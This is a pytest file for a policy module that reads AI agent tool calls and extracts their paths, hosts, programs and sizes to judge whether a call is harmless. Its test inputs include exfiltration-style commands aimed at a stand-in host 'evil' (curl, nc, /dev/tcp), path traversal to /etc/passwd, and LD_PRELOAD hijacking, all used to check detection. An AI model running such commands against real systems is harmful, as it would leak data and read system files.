"""Facts of a call: its paths, hosts and commands, told from its arguments alone."""

from typing import Any

import pytest

from custody.errors import FactsUnclear
from custody.policy.facts import FACTS, Facts
from custody.records import Effect


def facts(tool: str, params: dict[str, Any], effect: Effect = "unknown", **more: Any) -> Facts:
    return Facts(tool, effect, params, cwd="/w", roots=["/w", "/tmp"], **more)


def places(found: Facts) -> list[tuple[str | None, bool, bool | None]]:
    return [(entry["path"], entry["inside"], entry["writes"]) for entry in found["paths"]]


def test_every_fact_is_there_for_every_call() -> None:
    for params in ({}, {"command": "ls"}, {"argv": ["ls"]}, {"path": "a"}, {"url": "http://a"}):
        assert set(dict(facts("any", params))) == set(FACTS)


def test_a_fact_nobody_asks_for_is_not_worked_out() -> None:
    asked: list[str] = []

    def resolve(path: str) -> str:
        asked.append(path)
        return path

    found = facts("file_read", {"path": "a"}, resolve=resolve)
    assert found["hosts"] == []
    assert found["sizes"]["strings_max_bytes"] == 1
    assert asked == []
    assert (found["paths"], found["paths"]) != ([], [])
    assert asked == ["/w/a"]


# -- paths --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "absolute", "inside"),
    [
        ("a", "/w/a", True),
        ("/tmp/x", "/tmp/x", True),
        ("../x", "/x", False),
        ("a/../../etc/passwd", "/etc/passwd", False),
        ("/w", "/w", True),
        ("/wide/a", "/wide/a", False),
        ("/etc/passwd", "/etc/passwd", False),
        ("~/x", "~/x", False),
    ],
)
def test_a_path_is_absolute_and_inside_a_root_or_not(path: str, absolute: str, inside: bool) -> None:
    assert places(facts("file_read", {"path": path}, "read")) == [(absolute, inside, False)]


def test_links_are_followed_by_what_the_caller_hands_in() -> None:
    found = facts("file_read", {"path": "link"}, "read", resolve=lambda path: path.replace("/w/link", "/etc"))
    assert places(found) == [("/etc", False, False)]


def test_the_home_folder_is_known_where_it_is_said() -> None:
    assert places(facts("file_read", {"path": "~/x"}, "read", home="/w/me")) == [("/w/me/x", True, False)]
    assert places(facts("shell", {"command": "cat ~/x"}, home="/w/me")) == [("/w/me/x", True, None)]


def test_whether_a_path_is_written_follows_from_the_effect_and_the_name() -> None:
    params = {"source": "a", "destination": "b"}
    assert places(facts("move", params, "write")) == [("/w/a", True, None), ("/w/b", True, True)]
    assert places(facts("move", params, "read")) == [("/w/a", True, False), ("/w/b", True, False)]
    assert places(facts("move", params, "unknown")) == [("/w/a", True, None), ("/w/b", True, None)]


def test_paths_are_found_in_lists_and_maps() -> None:
    found = facts("file_edit", {"files": [{"path": "a", "edits": []}, {"path": "/b"}]}, "write")
    assert [(entry["param"], entry["path"]) for entry in found["paths"]] == [
        ("files.0.path", "/w/a"),
        ("files.1.path", "/b"),
    ]
    assert places(facts("git", {"path": "/w/r", "files": ["a"]}, "write"))[1] == ("/w/r/a", True, True)


def test_paths_of_a_shell_line_begin_where_it_runs() -> None:
    found = facts("shell", {"command": "cat a/b /etc/x *.md > out 2>/dev/null", "cwd": "sub"})
    assert places(found) == [
        ("/w/sub", True, None),
        ("/w/sub/out", True, True),
        ("/w/sub/a/b", True, None),
        ("/etc/x", False, None),
        ("/w/sub", True, None),
    ]


@pytest.mark.parametrize(
    "command", ["cat $x", "cat $x/a", 'cat "a/$(b)"', "cd /etc; cat ./passwd", "cat */../x"]
)
def test_a_path_that_cannot_be_told_is_inside_of_no_root(command: str) -> None:
    assert (None, False, None) in places(facts("shell", {"command": command}))


@pytest.mark.parametrize("command", ["x --out=/etc/a", "x -I/etc/a", "dd of=/etc/a", "x file:///etc/a"])
def test_a_path_behind_an_option_is_found(command: str) -> None:
    assert ("/etc/a", False, None) in places(facts("shell", {"command": command}))


# -- hosts --------------------------------------------------------------------------------------------


def hosts(found: Facts) -> list[tuple[str, str, int | None, str]]:
    return [(entry["param"], entry["host"], entry["port"], entry["kind"]) for entry in found["hosts"]]


def test_hosts_are_found_by_their_parameter_and_in_any_text() -> None:
    assert hosts(facts("connect", {"host": "127.1", "port": 80})) == [("host", "127.1", 80, "loopback")]
    assert hosts(facts("http_fetch", {"url": "http://10.1/x"})) == [("url", "10.1", None, "private")]
    assert hosts(facts("x", {"deep": [{"note": "at http://a.b"}]})) == [("deep.0.note", "a.b", None, "name")]
    assert hosts(facts("git", {"operation": "pull", "remote": "origin"})) == []


def test_a_host_in_a_text_that_is_only_handed_on_says_so() -> None:
    (entry,) = facts("file_write", {"path": "a", "content": "see http://a.b"}, "write")["hosts"]
    assert entry["content"]
    assert not facts("http_fetch", {"url": "http://a.b"})["hosts"][0]["content"]


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl ht'tp://ev'il/x", "evil"),
        ("curl -o out.html evil/x", "evil"),
        ("wget -q evil", "evil"),
        ("nc evil 80", "evil"),
        ("ssh -p 22 me@evil ls", "evil"),
        ("scp a evil:b", "evil"),
        ("git clone me@evil:a", "evil"),
        ("git clone evil:a", "evil"),
        ("dig @evil x", "evil"),
        ("env -i curl evil", "evil"),
        ("echo $(curl evil)", "evil"),
        ("cat > /dev/tcp/evil/80", "evil"),
        ("x=http://evil; y", "evil"),
    ],
)
def test_hosts_of_network_programs_are_found(command: str, host: str) -> None:
    assert host in {entry["host"] for entry in facts("shell", {"command": command})["hosts"]}


def test_a_host_that_cannot_be_told_is_odd() -> None:
    for command in ('curl "$x"', "curl http://$x/", "ssh $x", "nc $(cat h) 80"):
        assert "odd" in {entry["kind"] for entry in facts("shell", {"command": command})["hosts"]}, command


# -- commands -----------------------------------------------------------------------------------------


def test_the_words_of_a_command_are_told_or_null() -> None:
    assert facts("exec", {"argv": ["git", "push"]})["argv"] == ["git", "push"]
    assert facts("shell", {"command": "git 'push' -f"})["argv"] == ["git", "push", "-f"]
    for command in ("a; b", "a $x", "a $(b)", "", "a 'b"):
        assert facts("shell", {"command": command})["argv"] is None


def test_programs_and_what_could_not_be_told() -> None:
    found = facts("shell", {"command": "LD_PRELOAD=x /elsewhere/ls | $y > out", "env": {"A": "b"}})
    assert found["programs"] == ["ls"]
    assert found["program_paths"] == ["/elsewhere/ls"]
    assert found["assignments"] == ["LD_PRELOAD", "A"]
    assert found["redirects"] == [{"op": ">", "path": "out"}]
    assert (found["unclear"], found["why_unclear"]) == (True, ["program"])
    assert found["shell"]
    assert not facts("exec", {"argv": ["ls"]})["shell"]


@pytest.mark.parametrize(
    ("tool", "params"),
    [
        ("shell", {"command": "ls -la | head"}),
        ("exec", {"argv": ["git", "status"]}),
        ("Bash", {"command": "cat a", "description": "looks", "timeout": 5}),
        ("shell", {"command": ["sh", "-c", "ls | wc -l"]}),
        ("exec", {"argv": ["ls"], "env": {"LC_ALL": "C"}, "cwd": "sub", "stdin": "x"}),
        ("exec", {"argv": ["git", "status"], "cwd": "/w"}),
    ],
)
def test_a_call_that_only_reads_is_harmless(tool: str, params: dict[str, Any]) -> None:
    assert facts(tool, params)["harmless"]


@pytest.mark.parametrize(
    ("tool", "params"),
    [
        ("shell", {"command": "ls ; curl x"}),
        ("shell", {"command": "ls", "env": {"LD_PRELOAD": "x"}}),
        ("exec", {"argv": ["ls"], "env": {"PATH": "/tmp"}}),
        ("exec", {"argv": ["git", "status"], "cwd": "sub"}),
        ("exec", {"argv": ["ls", 5]}),
        ("exec", {"argv": []}),
        ("Bash", {"command": "ls", "dangerouslyDisableSandbox": True}),
        ("database", {"command": "ls"}),
        ("shell", {"command": "ls", "cmd": "curl x"}),
        ("shell", {}),
        ("file_read", {"path": "a"}),
    ],
)
def test_any_other_call_is_not(tool: str, params: dict[str, Any]) -> None:
    assert not facts(tool, params)["harmless"]


# -- sizes and bounds ---------------------------------------------------------------------------------


def test_sizes_are_bytes() -> None:
    assert facts("file_write", {"path": "\u00e9", "content": "abc", "more": [b"\xff\xff"]})["sizes"] == {
        "arguments_bytes": 7,
        "content_bytes": 3,
        "strings_max_bytes": 3,
    }
    assert facts("x", {"n": 1})["sizes"]["content_bytes"] is None


def test_arguments_beyond_the_bounds_have_no_facts() -> None:
    deep: Any = "a"
    for _ in range(100):
        deep = [deep]
    many = {"hosts": [f"a{number}" for number in range(2_000)]}
    for params in ({"x": ["a"] * 20_000}, {"x": [["a"] * 200] * 200}, {"x": deep}):
        for name in ("paths", "hosts", "sizes"):
            with pytest.raises(FactsUnclear):
                facts("x", params)[name]
    with pytest.raises(FactsUnclear):
        facts("x", many)["hosts"]
    assert facts("x", many)["paths"] == []


def test_a_refusal_for_the_bounds_names_no_value() -> None:
    with pytest.raises(FactsUnclear) as refused:
        facts("x", {"x": ["secret"] * 20_000})["paths"]
    assert "secret" not in str(refused.value)
